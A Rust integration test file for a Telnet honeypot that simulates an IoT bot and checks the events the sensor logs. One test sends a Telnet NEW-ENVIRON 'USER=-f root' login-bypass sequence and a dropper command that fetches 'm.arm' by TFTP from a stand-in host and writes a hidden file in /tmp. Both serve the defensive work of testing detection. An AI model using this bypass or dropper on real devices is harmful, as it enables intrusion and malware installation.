//! A Telnet client written by hand against the Telnet trap.

use crate::bed::{self, PASSWORD, USER, closed, has};
use logwire::attack::What;
use std::net::SocketAddr;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::timeout;

pub(crate) struct Client {
    stream: TcpStream,
    got: Vec<u8>,
}

impl Client {
    pub(crate) async fn connect(to: SocketAddr) -> Self {
        Self { stream: TcpStream::connect(to).await.unwrap(), got: Vec::new() }
    }

    pub(crate) async fn send(&mut self, bytes: impl AsRef<[u8]>) {
        self.stream.write_all(bytes.as_ref()).await.unwrap();
    }

    /// Reads up to and with that text; gives what came.
    pub(crate) async fn until(&mut self, end: &str) -> String {
        let mut chunk = [0; 1024];
        loop {
            if let Some(at) = self.got.windows(end.len()).position(|w| w == end.as_bytes()) {
                let rest = self.got.split_off(at + end.len());
                return String::from_utf8_lossy(&std::mem::replace(&mut self.got, rest)).into_owned();
            }
            let n = timeout(Duration::from_secs(20), self.stream.read(&mut chunk)).await.unwrap().unwrap();
            assert!(n > 0, "closed before {end:?}: {:?}", String::from_utf8_lossy(&self.got));
            self.got.extend(&chunk[..n]);
        }
    }

    pub(crate) async fn login(&mut self) {
        self.until("login: ").await;
        self.send(format!("{USER}\r\n")).await;
        self.until("Password: ").await;
        self.send(format!("{PASSWORD}\r\n")).await;
        self.until("~ # ").await;
    }
}

#[tokio::test]
async fn a_bot_logs_in_probes_and_loads() {
    let (centre, sensor, _dir) = bed::pair().await;
    let mut client = Client::connect(sensor.telnet).await;
    let opening = client.until("login: ").await;
    assert!(!opening.contains("BusyBox"), "nothing is said before the login");
    client.send(b"\xff\xfb\x27\xff\xfa\x27\x00\x00USER\x01-f root\xff\xf0").await;
    client.send("admin\r\n").await;
    client.until("Password: ").await;
    client.send("wrong\r\n").await;
    client.until("Login incorrect\r\n").await;
    client.login().await;
    client.send("/bin/busybox ECCHI\r\n").await;
    assert!(client.until("# ").await.contains("ECCHI: applet not found\r\n"));
    client.send("cd /tmp; tftp -g -r m.arm 198.51.100.4; echo -ne '\\x7f\\x45\\x4c\\x46' > .a; exit\r\n").await;
    let mut rest = Vec::new();
    client.stream.read_to_end(&mut rest).await.unwrap();
    let events = centre.until("closed session", |e| closed(e) == 1).await;
    assert!(has(
        &events,
        |w| matches!(w, What::Request { verb, target, .. } if verb == "NEW-ENVIRON" && target == "USER=-f root")
    ));
    assert!(has(
        &events,
        |w| matches!(w, What::Auth { user, password, success: false, .. } if user == "admin" && password == "wrong")
    ));
    assert!(has(&events, |w| matches!(w, What::Auth { success: true, .. })));
    assert!(has(&events, |w| matches!(w, What::FileRef { url } if url == "tftp://198.51.100.4/m.arm")));
    assert!(has(&events, |w| matches!(w, What::FileIn { size: Some(4), name: Some(n), .. } if n == "/tmp/.a")));
    assert!(events.iter().all(|e| e.protocol == "telnet" && e.dst_port == sensor.telnet.port()));
    sensor.stop().await;
}

#[tokio::test]
async fn everything_at_once_is_worked_off_in_order() {
    let (centre, sensor, _dir) = bed::pair().await;
    let mut client = Client::connect(sensor.telnet).await;
    client.send(format!("{USER}\r\n{PASSWORD}\r\necho one\r\necho two\r\nexit\r\n")).await;
    let mut all = Vec::new();
    client.stream.read_to_end(&mut all).await.unwrap();
    let text = String::from_utf8_lossy(&all).into_owned();
    let (one, two) = (text.find("\none\r\n").unwrap(), text.find("\ntwo\r\n").unwrap());
    assert!(one < two);
    centre
        .until("two commands and the end", |e| {
            closed(e) == 1 && bed::kinds(e).iter().filter(|k| **k == "cmd.input").count() == 3
        })
        .await;
    sensor.stop().await;
}

#[tokio::test]
async fn three_wrong_passwords_end_the_session() {
    let (centre, sensor, _dir) = bed::pair().await;
    let mut client = Client::connect(sensor.telnet).await;
    for _ in 0..3 {
        client.until("login: ").await;
        client.send("root\r\n").await;
        client.until("Password: ").await;
        client.send("nope\r\n").await;
        client.until("Login incorrect\r\n").await;
    }
    let mut rest = Vec::new();
    client.stream.read_to_end(&mut rest).await.unwrap();
    centre
        .until("closed session", |e| {
            closed(e) == 1 && e.iter().filter(|e| matches!(e.what, What::Auth { .. })).count() == 3
        })
        .await;
    sensor.stop().await;
}
